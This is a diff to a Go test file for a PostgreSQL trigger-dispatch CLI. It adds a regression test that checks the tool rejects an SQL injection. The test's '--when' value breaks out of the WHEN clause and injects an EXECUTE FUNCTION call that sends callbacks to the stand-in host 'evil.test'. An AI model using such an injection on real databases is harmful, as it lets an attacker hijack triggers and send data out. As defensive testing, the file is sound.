@@ -64,6 +64,18 @@ func TestTriggersCommand(t *testing.T) {
 	_, stderr, code = run("remove", "orders_paid")
 	require.Equal(t, 1, code)
 	require.Contains(t, stderr, "no such pgdispatch trigger")
+	// A condition that leaves its WHEN clause to give the trigger other
+	// arguments than the recorded ones is refused.
+	fn := pgx.Identifier{schema, "dispatch_event"}.Sanitize()
+	_, stderr, code = run("add", "--table", table, "--kind", "http_callback", "--name", "hijack",
+		"--when", `true) EXECUTE FUNCTION `+fn+`('http_callback', 'default', '{"url": "http://evil.test/"}', $q$`,
+		"--payload", `{"url": "https://example.test/orders", "note": "$q$) --"}`)
+	require.Equal(t, 1, code)
+	require.Contains(t, stderr, "the trigger created is not the one recorded")
+	out, _, code = run("list", "--json")
+	require.Equal(t, 0, code)
+	require.Equal(t, "[]", out)
+
 	_, stderr, code = run("add", "--table", "nope.nothing", "--kind", "noop")
 	require.Equal(t, 1, code)
 	require.Contains(t, stderr, `schema "nope" does not exist`)
